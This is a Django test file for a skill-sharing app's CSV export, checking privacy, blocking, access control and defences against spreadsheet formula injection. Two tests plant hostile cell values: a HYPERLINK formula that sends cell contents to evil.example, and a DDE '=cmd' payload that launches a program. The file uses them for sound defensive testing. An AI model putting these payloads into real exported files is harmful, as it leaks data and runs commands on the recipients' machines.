"""What somebody with a grudge, or a spreadsheet, might make of the file of everybody."""

from __future__ import annotations

import csv
import io
from typing import TYPE_CHECKING

import pytest
from django.urls import reverse

from peerloop.intake.actions import apply_import
from peerloop.people.actions import block, update_profile
from peerloop.skills.actions import find_skill, merge_skills, offer, propose_skill, take_back_merge, want
from peerloop.skills.models import Offer

if TYPE_CHECKING:
    from tests.conftest import ClientOf

    from peerloop.people.models import Member

pytestmark = pytest.mark.django_db


def taken(client_of: ClientOf, by: Member) -> list[dict[str, str]]:
    answer = client_of(by).post(reverse("organise:export"), {"kind": "csv"})
    assert (answer.status_code, answer["Content-Type"]) == (200, "text/csv; charset=utf-8")
    assert answer["Content-Disposition"].startswith('attachment; filename="people-')
    return list(csv.DictReader(io.StringIO(answer.getvalue().decode("utf-8-sig"))))


def test_no_need_that_is_not_public_is_told_before_within_or_after_a_merge(
    alice: Member, organiser: Member, client_of: ClientOf
) -> None:
    grieving, mourning = propose_skill("Grieving", by=None), propose_skill("Mourning", by=None)
    want(alice, skill=grieving, level=2, visibility="private")
    want(alice, skill=mourning, level=2, visibility="matching")
    before = taken(client_of, organiser)
    merge = merge_skills(grieving, mourning, by=organiser)
    assert taken(client_of, organiser) == before
    take_back_merge(merge, by=organiser)
    assert taken(client_of, organiser) == before
    assert {row["needs"] for row in before} == {""}


def test_nobody_learns_from_it_who_has_blocked_them(alice: Member, organiser: Member, client_of: ClientOf) -> None:
    before = taken(client_of, organiser)
    block(alice, organiser)
    assert taken(client_of, organiser) == before


def test_no_cell_is_a_formula(alice: Member, organiser: Member, client_of: ClientOf) -> None:
    for name in ('=HYPERLINK("http://evil.example/?"&A1)', "+1", "-2+3", "@SUM(1)"):
        offer(alice, skill=find_skill(name) or propose_skill(name, by=None), level=5)
    cells = [cell for row in taken(client_of, organiser) for cell in row.values()]
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []


def test_no_cell_is_a_formula_where_a_spreadsheet_takes_semicolons_between_cells(
    alice: Member, bo: Member, organiser: Member, client_of: ClientOf
) -> None:
    """As Excel does in half of Europe: it splits "Rust:4;=cmd" in the middle of our cell."""
    for name in ("Rust", "=cmd|' /C calc'!A0", "+1", "@SUM(1)", "a;=2"):
        offer(alice, skill=find_skill(name) or propose_skill(name, by=alice), level=4 if name == "Rust" else 3)
    update_profile(bo, by=bo, place="Attic; =1+1\n;-2")
    answer = client_of(organiser).post(reverse("organise:export"), {"kind": "csv"})
    content = answer.getvalue()
    cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";") for cell in row]
    assert [cell for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@"))] == []
    before = set(Offer.objects.values_list("member", "skill__name", "level"))
    done = apply_import(content, "people.csv", by=None)
    assert (done.counts["offers"], set(Offer.objects.values_list("member", "skill__name", "level"))) == (0, before)


def test_only_who_organises_takes_it(
    alice: Member, analyst: Member, moderator: Member, facilitator: Member, client_of: ClientOf
) -> None:
    for somebody in (alice, analyst, moderator, facilitator):
        assert client_of(somebody).post(reverse("organise:export"), {"kind": "csv"}).status_code == 403
    assert client_of(alice).get(reverse("organise:export")).status_code == 403


def test_somebodys_offer_for_a_merged_skill_is_reached_by_nobody(
    alice: Member, bo: Member, client_of: ClientOf
) -> None:
    """A resting offer or need is no page of anybody's, its owner's neither, until the merge is taken back."""
    gone, into = propose_skill("JS scripting", by=None), propose_skill("JavaScript", by=None)
    resting = want(alice, skill=gone, level=4, visibility="public", text="kanarie")
    want(alice, skill=into, level=1, visibility="private")
    lesser = offer(alice, skill=gone, level=1, text="kanarie")
    offer(alice, skill=into, level=4)
    merge_skills(gone, into, by=None)
    for reader in (alice, bo):
        browser = client_of(reader)
        for address in (
            reverse("skills:need", args=[resting.pk]),
            reverse("matchmaking:suggestions", args=[resting.pk]),
            reverse("skills:offer", args=[lesser.pk]),
            reverse("skills:endorsements", args=[lesser.pk]),
        ):
            assert browser.get(address).status_code == 404
        for address in (
            reverse("skills:skill", args=[into.pk]),
            reverse("members:member", args=[alice.pk]),
            reverse("find:find") + "?q=javascript",
            "/",
        ):
            assert "kanarie" not in browser.get(address).text
